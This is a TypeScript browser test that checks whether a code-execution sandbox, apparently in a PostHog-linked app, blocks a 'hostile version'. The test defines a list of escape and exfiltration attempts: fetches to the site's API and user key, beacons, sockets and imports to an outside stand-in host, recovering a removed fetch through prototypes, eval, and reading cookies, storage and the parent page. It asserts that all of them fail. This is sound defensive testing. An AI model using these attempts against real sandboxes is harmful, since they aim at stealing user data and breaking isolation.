import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { browserTest } from '../harness/browser/browserTest.ts';
import { awaitRun } from '../harness/browser/runAs.ts';
import { writeVersion } from '../harness/browser/writeVersion.ts';
import { startServer } from '../harness/server/startServer.ts';

/**
 * What a hostile version tries. Its first try of each kind is what a scope without these names answers;
 * the others go past that, by what the prototypes still have, and end at the policy of the frame.
 */
const TRIES: Record<string, string> = {
  'a page of the site': 'fetch(SITE + "/")',
  'a run of the site': 'fetch(SITE + "/parts/run", { method: "POST" })',
  'the REST API': 'fetch(SITE + "/posthog/api/projects/1/events/")',
  'the key of a person': 'fetch(SITE + "/posthog/api/users/@me/")',
  'another host': 'fetch(ELSEWHERE + "/fetch")',
  'the fetch that was taken away': 'scope.fetch.call(self, ELSEWHERE + "/native")',
  'the fetch that is set free': '(delete self.fetch, self.fetch(ELSEWHERE + "/freed"))',
  'an old request': 'new XMLHttpRequest().open("GET", ELSEWHERE)',
  'a socket': 'new WebSocket(ELSEWHERE.replace("http", "ws"))',
  'a stream': 'new EventSource(ELSEWHERE + "/stream")',
  'code of the site': 'import(SITE + "/x.js")',
  'code from elsewhere': 'import(ELSEWHERE + "/x.js")',
  'code in an address': 'import("data:text/javascript,export default 1" + "")',
  'an old import': 'importScripts(ELSEWHERE + "/x.js")',
  'code in a text': '(0, eval)("1")',
  'a function in a text': 'new Function("return 1")()',
  'a worker': 'new Worker("data:text/javascript,1")',
  'a database': 'indexedDB.open("x")',
  'a cache': 'caches.open("x")',
  'a channel': 'new BroadcastChannel("x")',
  'its own files': 'navigator.storage.getDirectory()',
  'a beacon': 'navigator.sendBeacon(ELSEWHERE + "/beacon", "x")',
  'the storage of the page': 'localStorage.getItem("x")',
  'the cookies of the page': 'document.cookie',
  'the page around': 'parent.document.title',
};

/** Says of each try what came of it: `reached` where it came to anything at all. */
const hostile = (site: string, elsewhere: string) => `
export async function GET({ cookies }: any) {
  const [SITE, ELSEWHERE] = [${JSON.stringify(site)}, ${JSON.stringify(elsewhere)}];
  const self = globalThis as any;
  const { XMLHttpRequest, WebSocket, EventSource, importScripts, Worker, indexedDB, caches } = self;
  const { BroadcastChannel, localStorage, document, parent } = self;
  const navigator = self.navigator as any;
  const scope = Object.getPrototypeOf(Object.getPrototypeOf(self));
  const tries: Record<string, () => unknown> = {
${Object.entries(TRIES)
  .map(([name, code]) => `    ${JSON.stringify(name)}: () => ${code},`)
  .join('\n')}
  };
  const told: string[] = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      told.push(name + ': reached');
    } catch {
      told.push(name + ': nothing');
    }
  }
  const seen = [self.origin, cookies.has('progress-first-flag'), 'localStorage' in self].join();
  return new Response(JSON.stringify({ told, seen }), { headers: { 'Content-Type': 'text/html' } });
}
`;

browserTest('a hostile version reaches nothing but PostHog', async ({ browser }) => {
  const server = await startServer();
  const hits: string[] = [];
  const elsewhere = createServer(({ url }, response) => {
    hits.push(url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*').end();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  const { port } = elsewhere.address() as AddressInfo;
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(`${server.origin}/first-flag/flag`);
    const paths = watchPaths(page, server.origin);
    await writeVersion(page, 'flag', hostile(server.origin, `http://127.0.0.1:${port}`));
    const { pageText } = await awaitRun(page, async () => {
      await page.locator('#run-form button.primary').click();
    });
    const { told, seen } = JSON.parse((await pageText()) ?? '') as { told: string[]; seen: string };
    expect(told).toEqual(Object.keys(TRIES).map((name) => `${name}: nothing`));
    expect(seen).toBe('null,false,false');
    expect(hits).toEqual([]);
    // What a browser begins and its policy stops has no response.
    expect(paths.filter((path) => !/^\/(parts|worker-frame|_astro)\b/.test(path))).toEqual([]);
  } finally {
    await context.close();
    await server.stop();
    elsewhere.close();
  }
});

/** Fills with the paths of the site that have answered the page, or anything in it. */
function watchPaths(page: Page, origin: string): string[] {
  const paths: string[] = [];
  page.on('response', (response) => {
    const url = new URL(response.url());
    if (url.origin === origin) paths.push(url.pathname);
  });
  return paths;
}
